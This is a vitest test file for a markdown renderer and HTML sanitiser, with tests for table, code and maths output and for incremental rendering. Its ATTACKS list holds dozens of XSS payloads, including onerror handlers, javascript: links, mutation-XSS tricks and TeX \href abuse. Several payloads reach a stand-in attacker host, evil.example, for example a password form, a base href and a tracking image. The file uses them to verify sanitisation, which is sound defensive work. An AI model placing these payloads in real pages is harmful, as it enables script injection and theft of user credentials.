import { describe, expect, it } from 'vitest';
import { GrowingMarkdown, renderMarkdown } from '../src/text/markdown';
import { sanitise } from '../src/text/sanitise';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<video poster=https://evil.example/p.png><source src=https://evil.example/v onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<button formaction=javascript:alert(1) onclick=alert(1)>x</button>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '![x](https://evil.example/track.png "t\\" onerror=alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\htmlData{x=1}{y}$ $\\includegraphics{https://evil.example/x.png}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$$\\unknown{<script>alert(1)</script>}$$',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |',
];

const FORBIDDEN =
  'script,style,iframe,object,embed,form,input,img,image,video,audio,source,base,meta,link,animate,use,template,[id],[name],[src],[srcset],[poster],[formaction],[action]';

/** Fails where parsed HTML could run code, fetch from elsewhere, or shadow a name of the page. */
function expectHarmless(html: string): void {
  const parsed = new DOMParser().parseFromString(html, 'text/html').body;
  expect(parsed.querySelector(FORBIDDEN)?.outerHTML ?? null).toBeNull();
  for (const element of parsed.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name, element.outerHTML).not.toMatch(/^on/i);
      if (name.endsWith('href')) expect(value).toMatch(/^(https?:|mailto:)/i);
      if (name === 'style') expect(value).not.toMatch(/url\(|expression|position:\s*fixed/i);
    }
  }
}

describe('safety', () => {
  it.each(ATTACKS)('renders harmlessly: %s', (attack) => expectHarmless(renderMarkdown(attack)));
  it.each(ATTACKS)('sanitises raw HTML: %s', (attack) => expectHarmless(sanitise(attack)));

  it('opens links in a new tab that knows nothing of this one', () => {
    const html = renderMarkdown('[a](https://example.org/?a=1&b=2)');
    expect(html).toContain('target="_blank"');
    expect(html).toMatch(/rel="noopener noreferrer/);
  });

  it('shows a picture as a link', () => {
    const html = renderMarkdown('![a cat](https://example.org/cat.png)');
    expect(html).toContain('href="https://example.org/cat.png"');
    expect(html).toContain('>a cat</a>');
  });
});

describe('content', () => {
  it('draws tables, code and links', () => {
    expect(renderMarkdown('| a | b |\n|---|---|\n| 1 | 2 |')).toContain('<td>1</td>');
    expect(renderMarkdown('```python\nprint("hi")\n```')).toContain('hljs-string');
    expect(renderMarkdown('see https://example.org now')).toContain('href="https://example.org"');
  });

  it.each(['$a_1$', '\\(a_1\\)', '$$a_1$$', '\\[a_1\\]', '$$\na_1\n$$', 'text\n\\[\na_1\n\\]\nmore'])('draws maths: %s', (source) => {
    const html = renderMarkdown(source);
    expect(html).toContain('class="katex"');
    expect(html).toContain('<math');
    expect(html).not.toContain('annotation');
  });

  it.each(['It costs $5 and $10.', '5$ to 6$', 'a $ b $ c', '`$a$`', '\\$a$'])('leaves money and code alone: %s', (source) => {
    expect(renderMarkdown(source)).not.toContain('katex');
  });

  it('shows faulty TeX instead of failing', () => {
    expect(renderMarkdown('$\\frac{1}$')).toContain('katex-error');
  });
});

const LONG = [
  '# Title', '', 'A paragraph', 'goes on', '---', '', '- one', '- two', '', '  more', '- three', '', '```js', 'const a = 1;', '',
  'const b = 2;', '```', '', '> quote', 'lazy', '', '| a | b |', '|---|---|', '| 1 | 2 |', '', '$$', 'x^2', '', '$$', '', '1. x', '', '2. y', '', 'End [r] 😀', '', '[r]: https://example.org',
].join('\n');

describe('GrowingMarkdown', () => {
  it('ends with what a single rendering gives, at any step size', () => {
    for (const step of [1, 2, 3, 7, 50]) {
      const growing = new GrowingMarkdown();
      for (let at = 0; at < LONG.length; at += step) growing.update(LONG.slice(0, at));
      const html = growing.finish(LONG).map((block) => block.html).join('');
      expect(html).toBe(renderMarkdown(LONG));
    }
  });

  it('shows at each step what a single rendering of that much text gives', () => {
    const text = LONG.replace('[r]', '').replace('[r]: https://example.org', '');
    const growing = new GrowingMarkdown();
    for (let at = 1; at <= text.length; at++) {
      const html = growing.update(text.slice(0, at)).map((block) => block.html).join('');
      expect(html, `after ${at} characters`).toBe(renderMarkdown(text.slice(0, at)));
    }
  });

  it('keeps settled blocks as they are', () => {
    const growing = new GrowingMarkdown();
    const before = growing.update('one\n\ntwo\n\nthree\n\nfour');
    const after = growing.update('one\n\ntwo\n\nthree\n\nfour five');
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after[3]?.html).toContain('four five');
  });

  it('starts again when the text is replaced', () => {
    const growing = new GrowingMarkdown();
    growing.update('one\n\ntwo\n\nthree\n\nfour');
    expect(growing.update('other').map((block) => block.html)).toEqual(['<p>other</p>\n']);
  });
});
